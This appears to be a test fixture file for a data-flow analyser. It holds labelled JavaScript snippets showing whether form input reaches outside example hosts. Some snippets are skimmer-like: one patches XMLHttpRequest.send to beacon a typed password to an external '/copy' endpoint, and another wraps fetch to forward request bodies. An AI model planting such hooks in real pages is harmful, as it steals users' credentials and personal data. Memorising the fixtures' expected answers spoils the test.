//# ky-instance-with-prefix
// flow: email > kyp.cn12.example via fetch
// destination: https://kyp.cn12.example/v1/leads
import ky from 'ky';
const api = ky.create({ prefixUrl: 'https://kyp.cn12.example/v1', retry: 1 });
export const save = () => api.post('leads', { json: { mail: document.querySelector('input[type=email]').value } }).json();

//# near-ky-hook-of-another-instance
// no flow
import ky from 'ky';
const quiet = ky.create({ prefixUrl: 'https://nkq.cn12.example' });
const loud = ky.create({
  prefixUrl: 'https://nkl.cn12.example',
  hooks: { beforeRequest: [(request) => { request.headers.set('X-Id', localStorage.getItem('uid')); }] },
});
export const list = () => quiet.get('items').json();

//# ky-hook-sets-header
// flow: identifier > khs.cn12.example via fetch
import ky from 'ky';
const api = ky.create({
  prefixUrl: 'https://khs.cn12.example',
  hooks: { beforeRequest: [(request) => { request.headers.set('X-Id', localStorage.getItem('uid')); }] },
});
export const list = () => api.get('items').json();

//# methods-made-in-a-loop
// flow: otp > mml.cn12.example via fetch
const http = {};
['get', 'post', 'put'].forEach((m) => {
  http[m] = (path, body) => fetch('https://mml.cn12.example' + path, { method: m.toUpperCase(), body: body && JSON.stringify(body) });
});
http.post('/otp', { code: document.querySelector('input[autocomplete=one-time-code]').value });

//# near-method-made-and-replaced
// no flow
// why: post() is replaced by one that keeps the code in the page
const http = {};
['get', 'post', 'put'].forEach((m) => {
  http[m] = (path, body) => fetch('https://nmr.cn12.example' + path, { method: m.toUpperCase(), body: body && JSON.stringify(body) });
});
http.post = (path, body) => { document.querySelector('#last').textContent = body.code; return Promise.resolve(); };
http.post('/otp', { code: document.querySelector('input[autocomplete=one-time-code]').value });

//# xhr-send-patched
// flow: password > self via xhr
// flow: password > xsp.cn12.example via beacon
var send0 = XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.send = function (body) {
  navigator.sendBeacon('https://xsp.cn12.example/copy', body);
  return send0.apply(this, arguments);
};
var x = new XMLHttpRequest();
x.open('POST', '/login');
x.send(document.querySelector('input[type=password]').value);

//# near-xhr-patched-for-its-time
// flow: password > self via xhr
// why: of the request that is watched only the method and the time are reported
var open0 = XMLHttpRequest.prototype.open;
XMLHttpRequest.prototype.open = function (method, url) {
  var begin = Date.now();
  this.addEventListener('loadend', function () { navigator.sendBeacon('https://nxp.cn12.example/t', method + ' ' + (Date.now() - begin)); });
  return open0.apply(this, arguments);
};
var x = new XMLHttpRequest();
x.open('POST', '/login');
x.send(document.querySelector('input[type=password]').value);

//# fetch-wrapped-with-report
// flow: email > self via fetch
// flow: email > fwr.cn12.example via fetch
const fetch0 = window.fetch;
window.fetch = async (...args) => {
  const r = await fetch0(...args);
  if (!r.ok) fetch0('https://fwr.cn12.example/err', { method: 'POST', body: JSON.stringify({ url: String(args[0]), body: args[1] && args[1].body }) });
  return r;
};
window.fetch('/signup', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# jquery-ajax-setup-header
// flow: identifier > jas.cn12.example via xhr
$.ajaxSetup({ beforeSend: function (xhr) { xhr.setRequestHeader('X-Visitor', localStorage.getItem('visitor_id')); } });
$.get('https://jas.cn12.example/items', function (items) { $('#n').text(items.length); });

//# near-picked-by-names
// no flow
// why: only the plan is picked
const pick = (o, keys) => Object.fromEntries(keys.map((k) => [k, o[k]]));
const save = (body) => fetch('https://npn.cn12.example/s', { method: 'POST', body: JSON.stringify(pick(body, ['plan', 'lang'])) });
save({ mail: document.querySelector('input[type=email]').value, plan: 'pro', lang: 'en' });

//# query-language-variables
// flow: address > qlv.cn12.example via fetch
async function gql(query, variables) {
  const res = await fetch('https://qlv.cn12.example/graphql', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ query, variables }),
  });
  return (await res.json()).data;
}
gql('mutation($a: String!) { ship(address: $a) { id } }', { a: document.querySelector('input[autocomplete=street-address]').value });

//# near-query-language-answer
// no flow
// why: what is typed filters the answer in the page
async function gql(query, variables) {
  const res = await fetch('https://nql.cn12.example/graphql', { method: 'POST', body: JSON.stringify({ query, variables }) });
  return (await res.json()).data;
}
gql('{ streets { name } }', {}).then(({ streets }) => {
  const typed = document.querySelector('input[autocomplete=street-address]').value;
  document.querySelector('#hits').textContent = streets.filter((s) => s.name.startsWith(typed)).length;
});
